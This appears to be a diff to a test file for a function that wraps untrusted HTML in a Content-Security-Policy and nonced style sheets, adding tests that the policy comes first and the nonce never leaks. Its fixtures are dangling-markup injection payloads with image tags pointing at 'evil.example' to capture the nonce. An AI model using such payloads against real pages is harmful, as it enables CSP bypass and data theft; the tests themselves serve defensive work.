@@ -32,3 +32,37 @@ it("shows the page as the chosen device does, not as this browser would", () => 
   expect(dark).toContain("@media (min-width: 0)");
   expect(isolatedPage(html, undefined)).toContain("(prefers-color-scheme: dark)");
 });
+
+it("is governed by its policy before it says anything, though it opens with a comment around a head", () => {
+  for (const html of ["<!--<head>--><img src=x>", "<!doctype html><!--<head>", "<!--", "<plaintext><head>"]) {
+    const page = isolatedPage(html, "n0nce", "dark");
+    expect(page).toMatch(/^<!doctype html><head><meta http-equiv="Content-Security-Policy"/);
+    expect(page.endsWith(html)).toBe(true);
+  }
+});
+
+it("never hands the nonce to an address, a comment or anything else that the page wrote", () => {
+  for (const html of [
+    "<img src='https://evil.example/?<style '>",
+    "<img src='https://evil.example/?<style >x</style>'><style>p{}</style>",
+    "<p '><img src=\"https://evil.example/?' ><style >x</style>\">",
+    "<textarea><p title=\"</textarea><img src='https://evil.example/?\"><style '>x</style>",
+    '<svg><style><img src="https://evil.example/?</style><style >x</style>">',
+    "<style>p{}</style x><img src='https://evil.example/?</style><style media='print'>x</style>'>",
+    "<style media='\"><img src=https://evil.example/?'>p{}</style><style>q{}</style>",
+    "<!--<style>x</style>-->",
+  ]) {
+    const page = isolatedPage(html, "n0nce");
+    const sheets =
+      /^.*?<base target="_blank">((?:<style nonce="n0nce"(?: media="[^"]*")?>.*?<\/style>)*)/s.exec(page);
+    expect(page.slice(sheets?.[0].length), html).not.toContain("n0nce");
+    for (const sheet of sheets?.[1]?.split(/<style nonce="n0nce"(?: media="[^"]*")?>/) ?? [])
+      expect(sheet.replace(/<\/style>$/, ""), html).not.toMatch(/<\/style[\s/>]|n0nce/);
+  }
+});
+
+it("keeps for which media a style sheet is", () => {
+  expect(isolatedPage("<p>x</p><style media='print'>p{}</style>", "n0nce")).toMatch(
+    /<style nonce="n0nce" media="print">p\{\}<\/style><p>x<\/p>$/,
+  );
+});
